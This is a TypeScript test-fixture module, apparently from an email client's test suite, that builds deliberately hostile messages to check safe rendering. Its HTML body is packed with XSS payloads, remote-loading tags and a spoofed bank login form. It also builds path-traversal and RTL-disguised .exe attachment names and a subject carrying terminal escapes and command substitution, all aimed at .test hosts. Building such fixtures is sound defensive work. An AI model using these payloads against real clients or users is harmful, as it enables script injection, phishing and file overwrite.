import {
  assemble,
  attachment,
  type MessageBuilder,
  message,
  multipart,
  text,
  usualFields,
} from './builders';
import { utf8Words } from './encodings';

/** Everything that would run, load or navigate, if a viewer let it. All hosts are under the reserved .test domain. */
const HOSTILE_HTML = `<!doctype html>
<html>
<head>
  <meta http-equiv="refresh" content="0; url=https://refresh.evil.test/">
  <base href="https://base.evil.test/">
  <link rel="stylesheet" href="https://css.evil.test/style.css">
  <link rel="dns-prefetch" href="//prefetch.evil.test">
  <link rel="preconnect" href="https://preconnect.evil.test">
  <style>
    @import url("https://import.evil.test/a.css");
    body { background: url(https://background.evil.test/b.png); }
    .cover { position: fixed; inset: 0; background: rgba(255, 0, 0, 0.4); }
  </style>
  <script>document.title = 'script ran'; fetch('https://script.evil.test/');</script>
</head>
<body onload="document.title = 'onload ran'">
  <p>You should see this sentence and nothing should happen.</p>
  <img src="https://image.evil.test/pixel.gif" onerror="document.title = 'onerror ran'" alt="remote">
  <img src=x onerror=alert(1)>
  <svg onload="alert(2)"><script>alert(3)</script><image href="https://svg.evil.test/c.svg"/></svg>
  <math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>
  <iframe src="https://frame.evil.test/"></iframe>
  <iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe>
  <object data="https://object.evil.test/o.swf"></object>
  <embed src="https://embed.evil.test/e.swf">
  <video autoplay poster="https://poster.evil.test/p.jpg"><source src="https://video.evil.test/v.mp4"></video>
  <form action="https://form.evil.test/" method="post">
    <input name="password" type="password" autofocus onfocus="alert(6)"><button>Log in</button>
  </form>
  <p><a href="javascript:alert(7)">javascript link</a>
     <a href="data:text/html,<script>alert(8)</script>">data link</a>
     <a href="command:workbench.action.quit">command link</a>
     <a href="vscode://example.sample/run">editor link</a>
     <a href="file:///etc/hostname">file link</a>
     <a href="https://evil.test/">https://bank.example.com/</a>
     <a href="https://xn--exmple-cua.test/" target="_top">exämple</a></p>
  <div class="cover" style="position:fixed!important;background:url('https://inline.evil.test/d.png')"></div>
</body>
</html>
`;

export const hostileHtml: MessageBuilder = (arrival) =>
  message(
    usualFields(arrival, {
      from: '"service@bank.example.com" <attacker@evil.test>',
      subject: 'Your account needs attention',
    }),
    text('html', HOSTILE_HTML, { encoding: '8bit' }),
  );

export const hostileNames: MessageBuilder = (arrival) => {
  const content = Buffer.from('harmless\n');
  const names = [
    'filename="../../../../tmp/escape.txt"',
    'filename="..\\\\..\\\\Windows\\\\escape.txt"',
    'filename="/etc/cron.d/escape"',
    'filename="C:\\\\escape.txt"',
    "filename*=utf-8''photo%E2%80%AEgpj.exe",
    'filename="invoice.pdf                                                                                .exe"',
    'filename="CON.txt"',
    'filename=".vscode"',
    'filename="--help"',
    'filename="line\tbreak.txt"',
    `filename="${'long-'.repeat(60)}name.txt"`,
    'filename=""',
  ];
  return message(
    usualFields(arrival, {
      from: 'Names <names@evil.test>',
      subject: 'Attachments with bad names',
    }),
    multipart('mixed', 'bad-names', [
      text('plain', 'Save these with care.\n', { encoding: '7bit' }),
      ...names.map((fileNameParameter) =>
        attachment('application/octet-stream', '', content, { fileNameParameter }),
      ),
    ]),
  );
};

export const controlsInSubject: MessageBuilder = (arrival) =>
  assemble(
    [
      ['Date', arrival.date],
      [
        'From',
        `${utf8Words('Pay\u202elaP\u202c\u0007 \u001b[31mred\u001b[0m')} <controls@evil.test>`,
      ],
      ['To', 'robin@example.com'],
      [
        'Subject',
        utf8Words(
          'Bell \u0007, escape \u001b[2J, line\r\nbreak, $(trash) [link](command:x), \u202egnihtemos\u202c\u0000 end',
        ),
      ],
      ['Message-ID', arrival.messageId],
      ['Content-Type', 'text/plain; charset=utf-8'],
    ],
    'The subject has control characters and bidirectional overrides.\n',
  );
